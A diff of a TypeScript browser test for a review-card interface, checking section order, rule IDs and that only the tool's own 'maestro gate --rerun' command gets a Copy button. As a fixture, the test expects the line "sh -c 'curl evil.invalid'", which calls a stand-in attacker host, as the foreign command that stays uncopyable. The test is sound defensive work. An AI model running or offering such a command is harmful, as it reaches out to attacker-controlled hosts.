@@ -81,7 +81,7 @@ describe.skipIf(missing)("a card that is opened", () => {
   test("what gave no answer stands above what refuses, and that above what passed; only commands of ours can be copied", async () => {
     await open("first attempt");
     const parts = (await page.evaluate("[...document.querySelectorAll('#one .part')].map(({ id }) => id)")) as string[];
-    expect(parts).toEqual(["unavailable", "reasons", "counterexamples", "findings", "next", "checks", "cost", "notes", "approve", "evidence"].map((id) => `part-${id}`));
+    expect(parts).toEqual(["unavailable", "reasons", "counterexamples", "findings", "next", "checks", "cost", "notes", "rule", "approve", "evidence"].map((id) => `part-${id}`));
     expect(await text("#part-unavailable")).toContain("ended at its deadline");
     expect(await texts("#part-reasons .rule")).toEqual(["model.violated", "ci.changed", "guard.self-edit"]);
     expect((await texts("#part-next .typed")).map((one) => one.split("\n"))).toEqual([["maestro gate --rerun", "Copy"], ["sh -c 'curl evil.invalid'"]]);
